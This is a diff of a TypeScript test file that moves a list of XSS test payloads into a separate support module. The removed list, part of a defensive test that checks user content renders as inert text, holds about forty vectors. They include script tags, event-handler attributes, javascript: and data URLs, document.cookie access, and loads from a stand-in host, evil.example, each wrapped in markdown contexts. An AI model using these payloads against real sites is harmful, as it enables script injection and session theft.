@@ -2,6 +2,7 @@ import request from 'supertest';
 import { UserRole } from '@app/accounts';
 import { createTestApp, createUser, login, resetDatabase, TestApp } from '../support/app';
 import { bearer } from '../support/accounts';
+import { XSS_PAYLOADS as PAYLOADS } from '../support/xss-payloads';
 
 /**
  * 1,000 XSS payloads (vectors × contexts) through thread titles, posts, file names and curriculum
@@ -9,79 +10,6 @@ import { bearer } from '../support/accounts';
  * app renders them as text); rendered post HTML must hold nothing but markdown-it's closed set of
  * tags with safe attributes and link targets.
  */
-
-const VECTORS = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<input autofocus onfocus=alert(1)>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<object data="data:text/html,<script>alert(1)</script>">',
-  '<embed src="javascript:alert(1)">',
-  '<style>@import "//evil.example/x.css";</style>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '"><script>alert(1)</script>',
-  "'><img src=x onerror=alert(1)>",
-  '</textarea><script>alert(1)</script>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;img src=x onerror=alert(1)&#62;',
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(document.cookie)',
-  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  '<form action=javascript:alert(1)><button>x</button></form>',
-  '{{constructor.constructor("alert(1)")()}}',
-  '${alert(1)}',
-  '<x onmouseover=alert(1)>hover</x>',
-  '\u0000<script>alert(1)</script>\u2028',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<div style="background:url(javascript:alert(1))">',
-  '"onmouseover="alert(1)',
-  '`><script>alert(1)</script>',
-  '<base href="//evil.example/">',
-  '<video><source onerror=alert(1)></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-];
-
-const CONTEXTS: Array<(v: string) => string> = [
-  (v) => v,
-  (v) => `[click](${v})`,
-  (v) => `[${v}](https://example.org)`,
-  (v) => `<${v}>`,
-  (v) => `![${v}](${v})`,
-  (v) => `# ${v}`,
-  (v) => `**${v}** _${v}_`,
-  (v) => `\`${v}\``,
-  (v) => `[ref]: ${v}\n\n[ref]`,
-  (v) => `> ${v}\n\n- ${v}`,
-  (v) => `[x](https://example.org "${v}")`,
-  (v) => `| a | b |\n|---|---|\n| ${v} | x |`,
-  (v) => `\`\`\`${v}\nx\n\`\`\``,
-  (v) => `text ${v} text`,
-  (v) => `[x](${encodeURIComponent(v)})`,
-  (v) => `<a href="${v}">x</a>`,
-  (v) => `x\n${v}\nx`,
-  (v) => `[x](  ${v}  )`,
-  (v) => `${v}${v}`,
-  (v) => `https://example.org/${v}`,
-  (v) => `[x](//${v})`,
-  (v) => `[x](<${v}>)`,
-  (v) => `<${v}`,
-  (v) => `${v}>`,
-  (v) => `*${v}*`,
-];
-
-const PAYLOADS = VECTORS.flatMap((vector) => CONTEXTS.map((context) => context(vector)));
 
 const ALLOWED_TAGS = new Set([
   'p',
